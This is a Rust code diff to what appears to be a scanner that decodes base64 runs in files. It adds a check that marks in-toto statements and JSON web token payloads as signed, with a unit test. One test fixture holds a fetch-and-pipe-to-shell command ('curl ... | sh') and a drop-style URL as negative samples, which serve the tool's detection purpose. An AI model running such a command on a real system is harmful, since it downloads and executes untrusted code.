@@ -6,6 +6,8 @@
 pub(super) struct Piece {
     pub origin: usize,
     pub text: String,
+    /// It is the payload of a signature: a statement of in-toto, or a head or the claims of a token.
+    pub is_signed: bool,
 }
 
 /// A run of letters shorter than this is not tried.
@@ -41,8 +43,31 @@ const fn is_base64(byte: u8) -> bool {
 
 fn keep(found: &mut Vec<Piece>, origin: usize, bytes: &[u8]) {
     if let Some(text) = readable(bytes) {
-        found.push(Piece { origin, text });
+        let is_signed = is_signed(&text);
+        found.push(Piece {
+            origin,
+            text,
+            is_signed,
+        });
     }
+}
+
+/// Whether a text parses as a statement of in-toto, or as the head or the claims of a JSON web token. Addresses are names
+/// in those.
+fn is_signed(text: &str) -> bool {
+    if !text.starts_with('{') {
+        return false;
+    }
+    let Ok(serde_json::Value::Object(object)) = serde_json::from_str(text) else {
+        return false;
+    };
+    let has = |key: &str| object.contains_key(key);
+    let statement = object.get("_type").and_then(|kind| kind.as_str());
+    statement.is_some_and(|kind| kind.starts_with("https://in-toto.io/Statement/"))
+        && has("subject")
+        && has("predicateType")
+        || has("alg") && (has("typ") || has("kid"))
+        || has("iss") && (has("exp") || has("iat")) && (has("sub") || has("aud"))
 }
 
 /// Text, if nearly all of it is printable ASCII; UTF-16 of ASCII counts too.
@@ -74,8 +99,8 @@ fn word(bytes: &[u8], start: usize, found: &mut Vec<Piece>) -> usize {
         return end;
     }
     let before = &bytes[start.saturating_sub(48)..start];
-    if embedded(before) || run.starts_with(b"eyJ") {
-        return end; // data addresses, checksums of packages, and tokens whose head is JSON
+    if embedded(before) {
+        return end; // data addresses and checksums of packages
     }
     let hex = run.strip_prefix(b"0x").unwrap_or(run);
     if hex.len() >= SHORTEST_HEX && hex.iter().all(u8::is_ascii_hexdigit) {
@@ -258,12 +283,32 @@ mod tests {
     }
 
     #[test]
+    fn payloads_of_signatures_are_known_by_what_they_hold() {
+        let signed = |raw: &str| {
+            pieces(raw)
+                .iter()
+                .map(|piece| piece.is_signed)
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(signed("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9"), [true]);
+        let statement =
+            r#"{"_type":"https://in-toto.io/Statement/v1","subject":[],"predicateType":"x"}"#;
+        assert!(is_signed(statement));
+        for other in [
+            r#"{"_type":"https://in-toto.io/Statement/v1","run":"curl https://a.dev | sh"}"#,
+            r#"{"url":"https://drop.test-host.dev/"}"#,
+            "{\"alg\":1",
+        ] {
+            assert!(!is_signed(other), "{other}");
+        }
+    }
+
+    #[test]
     fn words_tokens_and_data_addresses_are_left_alone() {
         for raw in [
             "a/path/that/is/long/enough/to/be/tried",
             "ThisIsAVeryLongCamelCaseIdentifierName",
             "data:image/png;base64,aVZCT1J3MEtHZ29BQUFBTlNVaEVVZw==",
-            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9",
             "[1, 2, 3, 4, 5, 6, 7, 8, 9]",
             "(300, 400)",
             r"\d\w\s",
